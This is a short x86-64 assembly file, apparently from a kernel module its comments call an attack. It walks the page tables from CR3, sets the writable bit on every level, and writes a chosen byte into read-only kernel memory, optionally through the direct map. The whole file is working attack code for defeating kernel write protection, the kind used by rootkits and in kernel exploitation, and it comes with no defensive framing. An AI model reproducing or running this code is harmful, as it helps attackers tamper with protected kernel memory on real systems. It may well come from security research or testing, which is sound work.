// The code of the kernel module that attacks. It writes a byte to memory which the kernel only reads: it makes the page
// writable in the kernel's own page tables first, which a write primitive can do as well.
// Intel syntax; it has 4 levels of page tables and a direct map of all memory.

    .section .rodata.attack, "a"
    .global attack_begin, attack_init, attack_end
attack_begin:
target: .quad 0                         // the linear address of the byte
base:   .quad 0                         // the address of the variable page_offset_base
value:  .quad 0                         // the byte
direct: .quad 0                         // not 0: write to the byte at its address in the direct map
attack_init:
    endbr64
    push rbx
    mov rdi, [rip + target]
    mov rbx, [rip + base]
    mov rbx, [rbx]                      // the start of the direct map
    call attack_open
    cmp qword ptr [rip + direct], 0
    je 1f
    lea rdi, [rbx + rax]
    call attack_open
1:  mov rax, [rip + value]
    mov [rdi], al
    xor eax, eax
    pop rbx
    ret

// Makes the page at RDI writable in the kernel's page tables. Returns the byte's physical address in RAX.
attack_open:
    mov rdx, cr3
    mov r8, 0x000ffffffffff000
    and rdx, r8
    mov ecx, 39
2:  mov rsi, rdi
    shr rsi, cl
    and esi, 511
    lea rsi, [rdx + rsi * 8]
    add rsi, rbx
    or qword ptr [rsi], 2               // R/W
    mov rdx, [rsi]
    mov eax, edx
    and rdx, r8
    cmp ecx, 12
    je 3f
    test al, 0x80                       // the entry maps a large page
    jnz 3f
    sub ecx, 9
    jmp 2b
3:  mov eax, 1
    shl rax, cl
    dec rax
    mov rsi, rdi
    and rsi, rax
    not rax
    and rax, rdx
    or rax, rsi
    invlpg [rdi]
    ret
attack_end:
